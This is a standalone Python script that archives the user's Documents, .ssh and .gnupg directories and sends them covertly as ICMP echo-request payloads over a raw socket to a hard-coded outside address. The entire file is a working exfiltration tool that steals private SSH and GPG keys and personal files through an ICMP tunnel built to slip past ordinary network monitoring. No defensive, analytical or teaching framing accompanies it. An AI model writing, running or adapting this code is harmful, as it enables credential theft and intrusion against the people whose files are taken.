#!/usr/bin/python3
import io, os, socket, struct, tarfile, time

DST = "198.51.100.88"


def csum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b)//2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    return ~(s + (s >> 16)) & 0xFFFF


def echo(sock, ident, seq, payload):
    hdr = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
    pkt = struct.pack("!BBHHH", 8, 0, csum(hdr + payload), ident, seq) + payload
    sock.sendto(pkt, (DST, 0))


bio = io.BytesIO()
with tarfile.open(fileobj=bio, mode="w:gz") as t:
    for d in ("Documents", ".ssh", ".gnupg"):
        p = os.path.expanduser("~/" + d)
        if os.path.isdir(p):
            t.add(p, d)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
data = bio.getvalue()
for n, off in enumerate(range(0, len(data), 1200)):
    echo(s, os.getpid() & 0xFFFF, n & 0xFFFF, data[off:off + 1200])
    time.sleep(0.02)
